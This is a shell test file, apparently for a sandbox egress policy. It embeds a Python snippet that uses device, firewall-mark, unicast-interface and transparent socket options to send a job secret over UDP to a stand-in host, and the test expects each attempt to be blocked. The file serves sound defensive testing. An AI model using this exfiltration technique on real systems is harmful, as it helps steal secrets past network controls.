# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# Socket options that choose the way out: a device, a firewall mark, a source address.

test_options_that_choose_the_way_out_change_no_verdict() {
	attack <<-'END'
	import socket, sys
	import job
	SO_MARK, IP_UNICAST_IF, IP_TRANSPARENT = 36, 50, 19
	options = {
	    "device": (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"a0"),
	    "mark": (socket.SOL_SOCKET, SO_MARK, 1),
	    "unicast-if": (socket.IPPROTO_IP, IP_UNICAST_IF, socket.htonl(socket.if_nametoindex("a0"))),
	    "transparent": (socket.IPPROTO_IP, IP_TRANSPARENT, 1),
	}
	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.setsockopt(*options[sys.argv[1]])
	if sys.argv[1] == "transparent":
	    sock.bind(("198.51.100.20", 0))
	sock.sendto(job.SECRET, ("203.0.113.66", 9999))
	END
	local option
	policy_feed
	for option in device mark unicast-if transparent; do
		new_secret
		echo "# row: $option"
		verdict not-allowed "${ATTACK[@]}" $option
	done
}
